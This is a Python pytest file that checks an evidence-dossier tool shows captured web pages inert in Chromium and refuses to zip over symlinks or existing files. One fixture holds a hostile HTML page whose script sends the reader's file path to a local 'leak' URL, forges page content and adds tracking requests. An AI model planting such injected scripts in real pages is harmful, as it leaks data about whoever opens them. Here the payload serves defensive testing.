"""The dossier's captured pages shown inert in real Chromium, and `--zip` never written through
a link or over a file."""

from __future__ import annotations

import os
import re
import zipfile
from datetime import timedelta
from pathlib import Path

import pytest
from helpers import T0, TARGET, Database, an_outcome, png_bytes, run

from monitor.domain import Engine, Reason
from monitor.errors import UsageError
from monitor.evidence.dossier.build import zip_dossier

SOURCE_PNG = Path("/tmp/dossier-source.png")

#: A page recorded as maintenance whose script, if it ever ran, would tell the reader's file
#: path to a server, write "créneaux disponibles" into the page and retitle it.
HOSTILE_PAGE = """<!DOCTYPE html><html><head><title>Maintenance</title></head><body>
<h1 id="captured">Site en maintenance</h1>
<script>
window.__ran = true;
document.title = "RAN " + location.href;
document.body.insertAdjacentHTML("beforeend", "<p id='forged'>créneaux disponibles</p>");
fetch("http://127.0.0.1:9/leak?path=" + encodeURIComponent(location.href)).catch(() => 0);
</script>
<img id="pixel" src="http://127.0.0.1:9/pixel.png" onerror="window.__ran = true">
<iframe src="http://127.0.0.1:9/frame"></iframe>
<p>\x1b[31mterminal escape\x1b[0m</p>
</body></html>"""


def make_dossier(
    database: Database, capsys: pytest.CaptureFixture[str], out: Path, *flags: str
) -> tuple[int, str]:
    at = T0
    for index, reason in enumerate((Reason.NO_SLOT, Reason.MAINTENANCE, Reason.NO_SLOT)):
        page = HOSTILE_PAGE if reason is Reason.MAINTENANCE else f"<p>page {index}</p>"
        outcome = an_outcome(at=at + timedelta(hours=index), reason=reason, engine=Engine.BROWSER)
        database.record(outcome, html=page, png=png_bytes(seed=index))
    evidence_dir = str(database.evidence_dir)
    result = run(
        capsys, "evidence", TARGET, "--out", str(out), "--evidence-dir", evidence_dir, *flags
    )
    return result.code, result.err


@pytest.mark.browser
def test_a_captured_page_followed_from_the_dossier_runs_no_script(
    database: Database, capsys: pytest.CaptureFixture[str], tmp_path: Path, chromium_path: str
) -> None:
    from playwright.sync_api import sync_playwright

    out = tmp_path / "dossier"
    assert make_dossier(database, capsys, out) == (0, "")
    index = (out / "index.html").as_uri()
    links = "table.attempts td:nth-child(6) a:not(:has(img))"  # the evidence but screenshots
    seen: list[dict[str, object]] = []
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=chromium_path, args=["--no-sandbox"])
        try:
            page = browser.new_page(viewport={"width": 1000, "height": 700})
            requests: list[str] = []
            page.on("request", lambda request: requests.append(request.url))
            page.goto(index)
            count = page.locator(links).count()
            for number in range(count):
                page.goto(index)
                requests.clear()
                with page.expect_navigation():
                    page.locator(links).nth(number).click()
                page.wait_for_load_state("load")
                seen.append(
                    page.evaluate(
                        """() => ({
                            url: location.href,
                            ran: window.__ran === true,
                            title: document.title,
                            forged: document.getElementById('forged') !== null,
                            captured: document.getElementById('captured') !== null,
                            text: document.body.innerText,
                        })"""
                    )
                )
                seen[-1]["requests"] = list(requests)
                if "Site en maintenance" in str(seen[-1]["text"]):
                    page.screenshot(path=str(SOURCE_PNG), full_page=True)
        finally:
            browser.close()
    assert count == 3  # one HTML page per attempt, linked once each
    assert [(v["ran"], v["forged"], v["captured"]) for v in seen] == [(False, False, False)] * 3
    for view in seen:
        assert "/pages/" in str(view["url"]) and "/evidence/" not in str(view["url"])
        assert not str(view["title"]).startswith("RAN")
        assert view["requests"] == [view["url"]], view["requests"]  # the view and nothing else
    hostile = [v for v in seen if "Site en maintenance" in str(v["text"])]
    assert len(hostile) == 1
    shown = str(hostile[0]["text"])
    assert '<h1 id="captured">Site en maintenance</h1>' in shown  # the source, as text
    assert "\x1b" not in shown and "\ufffd[31mterminal escape" in shown


def test_the_index_never_links_a_captured_page_itself(
    database: Database, capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    out = tmp_path / "dossier"
    assert make_dossier(database, capsys, out) == (0, "")
    hrefs = re.findall(r"""href=['"]([^'"]*)['"]""", (out / "index.html").read_text())
    into_dossier = [h for h in hrefs if not h.startswith("https://")]
    assert into_dossier and all(
        h.startswith("pages/") or (h.startswith("evidence/") and h.endswith(".png"))
        for h in into_dossier
    ), into_dossier
    assert "default-src 'none'" in (out / "index.html").read_text()  # the report runs nothing
    views = sorted((out / "pages").iterdir())
    assert len(views) == 3
    for view in views:
        text = view.read_text()
        assert "Content-Security-Policy" in text and "default-src 'none'" in text
        assert "<script" not in text and "<img" not in text and "<iframe" not in text


def test_zip_refuses_a_dir_zip_that_is_a_symbolic_link(
    database: Database, capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    victim = tmp_path / "precious.txt"
    victim.write_text("the user's own file")
    (tmp_path / "dossier.zip").symlink_to(victim)

    code, err = make_dossier(database, capsys, tmp_path / "dossier", "--zip")
    assert code == 2
    assert err.strip().count("\n") == 0
    assert f"{tmp_path / 'dossier.zip'} already exists (a symbolic link)" in err
    assert victim.read_text() == "the user's own file"
    assert not (tmp_path / "dossier").exists()  # refused before anything is written


def test_zip_never_replaces_an_existing_dir_zip(
    database: Database, capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    (tmp_path / "dossier.zip").write_bytes(b"an earlier dossier")
    code, err = make_dossier(database, capsys, tmp_path / "dossier", "--zip")
    assert code == 2 and "already exists (there); it is never replaced" in err
    assert (tmp_path / "dossier.zip").read_bytes() == b"an earlier dossier"


def test_out_may_not_be_a_symbolic_link(
    database: Database, capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    (tmp_path / "elsewhere").mkdir()
    (tmp_path / "dossier").symlink_to(tmp_path / "elsewhere", target_is_directory=True)
    code, err = make_dossier(database, capsys, tmp_path / "dossier")
    assert code == 2 and "is a symbolic link" in err
    assert list((tmp_path / "elsewhere").iterdir()) == []


def test_a_link_planted_while_the_dossier_is_written_is_not_followed(tmp_path: Path) -> None:
    """Between the command's check and the archive's rename, a DIR.zip appears: the archive
    is written beside it under a temporary name and never linked over it."""
    out = tmp_path / "dossier"
    out.mkdir()
    (out / "index.html").write_text("<p>report</p>")
    victim = tmp_path / "precious.txt"
    victim.write_text("the user's own file")
    (tmp_path / "dossier.zip").symlink_to(victim)

    with pytest.raises(UsageError, match="appeared while the dossier was written"):
        zip_dossier(out)
    assert victim.read_text() == "the user's own file"
    assert os.readlink(tmp_path / "dossier.zip") == str(victim)
    assert sorted(p.name for p in tmp_path.iterdir()) == ["dossier", "dossier.zip", "precious.txt"]


def test_zip_holds_the_dossier_and_leaves_no_temporary_file(
    database: Database, capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    (tmp_path / "work").mkdir()
    out = tmp_path / "work" / "dossier"
    assert make_dossier(database, capsys, out, "--zip") == (0, "")
    assert sorted(p.name for p in (tmp_path / "work").iterdir()) == ["dossier", "dossier.zip"]
    assert out.with_name("dossier.zip").stat().st_mode & 0o777 == 0o644
    with zipfile.ZipFile(out.with_name("dossier.zip")) as bundle:
        names = bundle.namelist()
    on_disk = sorted(
        f"dossier/{p.relative_to(out).as_posix()}" for p in out.rglob("*") if p.is_file()
    )
    assert sorted(names) == on_disk
    assert any(name.startswith("dossier/pages/") for name in names)
